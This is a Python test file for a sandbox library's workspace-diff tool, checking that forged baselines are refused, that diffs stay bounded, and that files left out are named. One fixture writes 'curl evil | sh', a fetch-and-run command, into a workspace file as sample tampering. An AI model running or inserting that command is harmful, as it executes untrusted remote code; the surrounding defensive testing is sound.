"""The run's diff: against the baseline the host recorded, never one code forged, and bounded in
size and time whatever the workspace holds."""

from __future__ import annotations

import difflib
import hashlib
import json
import random
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stockade import Sandbox
from stockade.exceptions import BaselineTampered, BaselineUnreadable
from stockade.testing import FakeBackend
from stockade.tools import ToolContext, git_diff
from stockade.tools.patch import apply_patch_to_sandbox
from stockade.tools.workspace_diff import (
    BASELINE,
    MAX_BASELINE_BYTES,
    MAX_DIFF_BYTES,
    MAX_TEXT_TOTAL,
    _file_diff,
    record_baseline,
    started_in_repository,
    workspace_diff,
)


def make_sandbox() -> Sandbox:
    return Sandbox.create(backend=FakeBackend())


def with_baseline() -> tuple[Sandbox, str]:
    """A sandbox whose workspace holds a.txt, and its baseline as the run records it."""
    sbx = make_sandbox()
    sbx.files.write("a.txt", "hi\n")
    return sbx, record_baseline(sbx)


def test_a_baseline_the_code_rewrote_is_refused() -> None:
    sbx, recorded = with_baseline()
    sbx.files.write(BASELINE, json.dumps({"a.txt": "forged\n"}))  # what code in the sandbox can do
    with pytest.raises(BaselineTampered, match="not the one the run recorded"):
        workspace_diff(sbx, baseline=recorded)


def test_a_forged_baseline_is_read_no_further_than_the_real_ones_size() -> None:
    sbx, recorded = with_baseline()
    read: list[int] = []
    files = sbx.files
    real_read_range = files.read_range

    def counting(path: str, offset: int, length: int) -> bytes:
        data = real_read_range(path, offset, length)
        if path == BASELINE:
            read.append(len(data))
        return data

    files.read_range = counting  # type: ignore[method-assign]
    sbx.files.write(BASELINE, b'{"a.txt": "' + b"x" * (4 << 20) + b'"}')
    with pytest.raises(BaselineTampered):
        workspace_diff(sbx, baseline=recorded)
    assert read and max(read) <= int(recorded.rsplit(":", 1)[1]) + 1


def test_a_removed_baseline_is_said_so_not_diffed_as_an_empty_workspace() -> None:
    sbx, recorded = with_baseline()
    sbx.files.remove(BASELINE)
    with pytest.raises(BaselineTampered, match="removed"):
        workspace_diff(sbx, baseline=recorded)


def test_the_recorded_baseline_is_diffed_against() -> None:
    sbx, recorded = with_baseline()
    sbx.files.write("a.txt", "ho\n")
    assert workspace_diff(sbx, baseline=recorded) == "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-hi\n+ho\n"


async def test_git_diff_reports_a_forged_baseline_as_its_error() -> None:
    sbx = make_sandbox()
    recorded = record_baseline(sbx)
    sbx.files.write(BASELINE, '{"a.txt": "x"}')
    ctx = ToolContext(sandbox=sbx, baseline=recorded)
    with pytest.raises(BaselineTampered):
        await git_diff.invoke(ctx, git_diff.validate({}))


# Text past U+00FF: a curly apostrophe, the euro sign, an emoji (past U+FFFF), CJK, in a name too
# (a name not UTF-8 takes the process tier: tests/integration/test_agent_diff_text.py).
WIDE_TEXT = {
    "README.md": "It\u2019s a project.\n",
    "prices.txt": "5 \u20ac\n",
    "notes.md": "done \U0001f600\n",
    "cjk.txt": "\u6f22\u5b57\n",
    "caf\u00e9 \u2603.txt": "plain\n",
}
DEBUG_PATCH = "--- a/config.py\n+++ b/config.py\n@@ -1 +1 @@\n-DEBUG = False\n+DEBUG = True\n"


def test_a_workspace_with_text_past_latin_1_diffs_only_its_real_change() -> None:
    """One character past U+00FF in the workspace wiped the baseline (its text was held to the
    baseline's byte size, counted at two or four bytes a character): every file showed as new
    and DEBUG = False -> True was nowhere in the diff."""
    sbx = make_sandbox()
    for path, text in WIDE_TEXT.items():
        sbx.files.write(path, text)
    sbx.files.write("config.py", "DEBUG = False\n")
    recorded = record_baseline(sbx)
    assert workspace_diff(sbx, baseline=recorded) == ""
    sbx.files.write("config.py", "DEBUG = True\n")
    assert workspace_diff(sbx, baseline=recorded) == DEBUG_PATCH


def test_a_workspace_of_thousands_of_files_diffs_only_its_real_change() -> None:
    """A baseline's values were held to three a file, where a file with its mode is seven: one
    of 2,500 files was refused, and every file showed as new."""
    sbx = make_sandbox()
    for i in range(2500):
        sbx.files.write(f"f{i}.txt", "x\n")
    sbx.files.write("config.py", "DEBUG = False\n")
    recorded = record_baseline(sbx)
    sbx.files.write("config.py", "DEBUG = True\n")
    assert workspace_diff(sbx, baseline=recorded) == DEBUG_PATCH


DEEP = "/".join(["d"] * 70)  # deeper than the 64 folders the diff once listed


def test_a_change_past_the_files_the_diff_reads_is_named_never_silent() -> None:
    """Past 5,000 files the diff stopped: a change to the 5,999th was in no diff and named
    nowhere (found from outside). The fake gives no status change time (the tiers do, and name
    just the changed file: tests/integration/test_agent_diff_limits.py): each is not compared."""
    sbx = make_sandbox()
    for i in range(1, 5004):
        sbx.files.write(f"many/f{i:04}.txt", "x\n")
    recorded = record_baseline(sbx)
    sbx.files.write("many/f5002.txt", "curl evil | sh\n")
    why = (
        "past the 5,000 files the diff reads (1,000 of them in folders of dependencies, build "
        "output or VCS), at the run's start or now; not compared"
    )
    past = ", ".join(repr(f"many/f{i}.txt") for i in (5001, 5002, 5003))
    assert workspace_diff(sbx, baseline=recorded) == f"Left out ({why}): {past}\n"


def test_a_change_deep_in_the_workspace_is_in_the_diff() -> None:
    """The diff listed 64 folders deep; a workspace holds 128 (what uploads take)."""
    sbx = make_sandbox()
    sbx.files.write(f"{DEEP}/evil.py", "pass\n")
    recorded = record_baseline(sbx)
    sbx.files.write(f"{DEEP}/evil.py", "import os\n")
    assert workspace_diff(sbx, baseline=recorded) == (
        f"--- a/{DEEP}/evil.py\n+++ b/{DEEP}/evil.py\n@@ -1 +1 @@\n-pass\n+import os\n"
    )


def test_a_folder_deeper_than_a_listing_takes_is_named_as_not_compared() -> None:
    sbx = make_sandbox()
    recorded = record_baseline(sbx)
    folder = "/".join(["d"] * 128)
    sbx.files.write(f"{folder}/evil.py", "import os\n")
    why = "folders more than 128 deep, past what a listing takes; nothing in them compared"
    assert workspace_diff(sbx, baseline=recorded) == f"Left out ({why}): {folder!r}\n"


def test_a_baseline_that_matches_its_hash_but_does_not_parse_is_an_error_not_an_empty_one() -> None:
    """Whatever makes the run's own baseline unreadable, the diff says so: an empty baseline in
    its place showed every file as new, with no word said."""
    sbx, _ = with_baseline()
    unreadable = b'{"a.txt": "hi\n'  # cut short
    sbx.files.write(BASELINE, unreadable)
    recorded = f"sha256:{hashlib.sha256(unreadable).hexdigest()}:{len(unreadable)}"
    with pytest.raises(BaselineUnreadable, match="its hash matched"):
        workspace_diff(sbx, baseline=recorded)
    with pytest.raises(BaselineUnreadable):  # a caller that kept no hash: no more silent
        workspace_diff(sbx)


async def test_git_diff_reports_an_unreadable_baseline_as_its_error() -> None:
    sbx, _ = with_baseline()
    sbx.files.write(BASELINE, b"[]")
    ctx = ToolContext(sandbox=sbx, baseline=f"sha256:{hashlib.sha256(b'[]').hexdigest()}:2")
    with pytest.raises(BaselineUnreadable, match="not a JSON object"):
        await git_diff.invoke(ctx, git_diff.validate({}))


def test_a_baseline_holds_no_more_than_the_snapshots_text_escapes_included() -> None:
    """Control characters are six bytes each in the baseline's JSON: 12 files of 512 KiB of them
    made a baseline of 36 MiB, over the 32 MiB of text a snapshot holds."""
    sbx = make_sandbox()
    for i in range(12):
        sbx.files.write(f"c{i}.txt", b"\x01" * (512 * 1024))
    recorded = record_baseline(sbx)
    size = int(recorded.rsplit(":", 1)[1])
    assert size == len(sbx.files.read(BASELINE, format="bytes"))
    assert size <= MAX_TEXT_TOTAL + 12 * 1024 <= MAX_BASELINE_BYTES


def test_the_diff_is_bounded_in_size_and_names_what_it_left_out() -> None:
    sbx = make_sandbox()
    recorded = record_baseline(sbx)
    chunk = "line of text\n" * (3 * 1024 * 1024 // 13)  # 3 MiB of text
    for i in range(4):
        sbx.files.write(f"f{i}.txt", chunk[: 500 * 1024])  # text, within a file's 512 KiB
    for i in range(20):
        sbx.files.write(f"g{i:02}.txt", chunk[: 500 * 1024])
    diff = workspace_diff(sbx, baseline=recorded)
    assert len(diff.encode()) <= MAX_DIFF_BYTES + 4096
    assert diff.splitlines()[-1].startswith("Left out (over the diff's 8 MiB or 30 s")
    assert "'g19.txt'" in diff.splitlines()[-1]


def test_a_diff_out_of_time_names_the_files_it_did_not_compare() -> None:
    sbx = make_sandbox()
    recorded = record_baseline(sbx)
    sbx.files.write("a.txt", "new\n")
    diff = workspace_diff(sbx, baseline=recorded, time_s=0)
    assert diff == "Left out (over the diff's 8 MiB or 0 s; not compared or not shown): 'a.txt'\n"


def test_an_empty_file_created_or_deleted_is_in_the_diff_as_git_shows_it() -> None:
    """A unified diff has no line to show for an empty file: 65,000 new ones diffed as
    "(no changes)". They are git's header, after the files with lines (git reads a `---` line
    after one as its own), and the diff applies back."""
    sbx = make_sandbox()
    sbx.files.write("a.txt", "hi\n")
    sbx.files.write("gone", b"")
    recorded = record_baseline(sbx)
    sbx.files.write("a.txt", "ho\n")
    sbx.files.write("__init__.py", b"")
    sbx.files.remove("gone")
    diff = workspace_diff(sbx, baseline=recorded)
    assert diff == (
        "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-hi\n+ho\n"
        "diff --git a/__init__.py b/__init__.py\nnew file mode 100644\nindex 0000000..e69de29\n"
        "diff --git a/gone b/gone\ndeleted file mode 100644\nindex e69de29..0000000\n"
    )
    other = make_sandbox()
    other.files.write("a.txt", "hi\n")
    other.files.write("gone", b"")
    assert apply_patch_to_sandbox(other, diff) == [("a.txt", 1, 1), ("__init__.py", 0, 0), ("gone", 0, 0)]
    assert other.files.read("__init__.py") == "" and not other.files.exists("gone")
    assert other.files.read("a.txt") == "ho\n"


@settings(max_examples=300, deadline=None)
@given(
    old=st.lists(st.sampled_from(["a\n", "b\n", "c\n", "d\n", "e", "\n"]), max_size=40),
    new=st.lists(st.sampled_from(["a\n", "b\n", "c\n", "x\n", "y", "\n"]), max_size=40),
)
def test_a_pairs_diff_is_what_difflib_writes(old: list[str], new: list[str]) -> None:
    """The pair's diff is written by our own loop over difflib's groups (so that its search
    can be bounded): the same text as ``difflib.unified_diff``, whatever the lines."""
    a, b = "".join(old), "".join(new)
    if a == b:
        return
    ours = _file_diff("f.txt", a, b, deadline=float("inf"))
    theirs = difflib.unified_diff(
        a.splitlines(keepends=True), b.splitlines(keepends=True), "a/f.txt", "b/f.txt"
    )
    assert ours == "".join(x if x.endswith("\n") else x + "\n\\ No newline at end of file\n" for x in theirs)


def test_lines_repeated_under_difflibs_junk_threshold_cost_the_host_no_more_than_a_coarse_diff() -> None:
    """~120 short values, each just under difflib's 1% "popular" threshold, shuffled: one pair
    of 512 KiB files took 76-237 s of a host core, at every run's end and in every `git_diff`
    past its own timeout (found from outside). Its diff is now one change between the common
    head and tail, and it still applies."""
    lines = [f"{i}\n" for i in range(120)] * (512 * 1024 // 400)
    old = "".join(lines)
    random.Random(1).shuffle(lines)
    new = "".join(["same head\n", *lines, "same tail\n"])
    old = "same head\n" + old + "same tail\n"
    sbx = make_sandbox()
    sbx.files.write("data.txt", old)
    recorded = record_baseline(sbx)
    sbx.files.write("data.txt", new)
    started = time.process_time()
    diff = workspace_diff(sbx, baseline=recorded)
    assert time.process_time() - started < 20  # minutes before; the bound is the work, not this
    assert diff.startswith("--- a/data.txt\n+++ b/data.txt\n@@ -1,") and " same head\n" in diff
    other = make_sandbox()
    other.files.write("data.txt", old)
    apply_patch_to_sandbox(other, diff)
    assert other.files.read("data.txt") == new


def test_a_pair_past_the_diffs_time_is_shown_coarse_and_applies() -> None:
    old, new = "a\nb\nc\nd\n", "a\nx\nc\nd\n"
    coarse = _file_diff("f.txt", old, new, deadline=0.0)  # no time left for difflib's search
    assert coarse == "--- a/f.txt\n+++ b/f.txt\n@@ -1,4 +1,4 @@\n a\n-b\n+x\n c\n d\n"
    assert _file_diff("f.txt", "1\n2\n3\n", "3\n2\n1\n", deadline=0.0).count("\n-") == 3


def test_names_a_patch_tool_reads_otherwise_are_left_out_or_end_at_a_tab() -> None:
    """GNU patch ends a name at its first space, and drops one at its end: "Makefile x.txt"
    was applied as Makefile, and ".env " (which reads as .env under review) as .env (found
    from outside). A name with a space ends at a tab, as git writes it; a name with a space
    at either end of a part is left out, named."""
    sbx = make_sandbox()
    recorded = record_baseline(sbx)
    sbx.files.write("Makefile x.txt", "all:\n")
    sbx.files.write(".env ", "KEY=1\n")
    sbx.files.write(" lead/x", "1\n")
    diff = workspace_diff(sbx, baseline=recorded)
    assert "+++ b/Makefile x.txt\t\n" in diff
    assert "'.env '" in diff.splitlines()[-1] and "' lead/x'" in diff.splitlines()[-1]
    assert "+++ b/.env" not in diff and "lead/x\n" not in diff
    other = make_sandbox()
    assert apply_patch_to_sandbox(other, diff) == [("Makefile x.txt", 1, 0)]
    assert other.files.read("Makefile x.txt") == "all:\n"


def test_a_range_of_a_file_over_the_read_cap_is_read() -> None:
    """The diff hashes a large file a range at a time; a range of a file over the whole-file
    cap was refused, and one sparse file of a TiB made the whole diff unavailable (found from
    outside; the sandboxes' side: tests/integration/test_files_ranges.py)."""
    sbx = make_sandbox()
    sbx.files.write("big", b"x" * 1024)
    assert sbx.files.read_range("big", 1000, 8) == b"x" * 8


def test_the_baseline_says_whether_the_run_began_in_a_repository() -> None:
    """git_diff runs git only on the repository the run began in: a .git code made later (or a
    baseline the host kept no record of, which code could have written) is none."""
    sbx = make_sandbox()
    sbx.files.write("a.txt", "one\n")
    began_without = record_baseline(sbx)
    sbx.files.write(".git/HEAD", "ref: refs/heads/main\n")
    assert not started_in_repository(sbx, began_without)
    began_with = record_baseline(sbx)
    assert started_in_repository(sbx, began_with)
    assert not started_in_repository(sbx, None)
    assert workspace_diff(sbx, baseline=began_with) == ""  # the mark is no file of the diff's
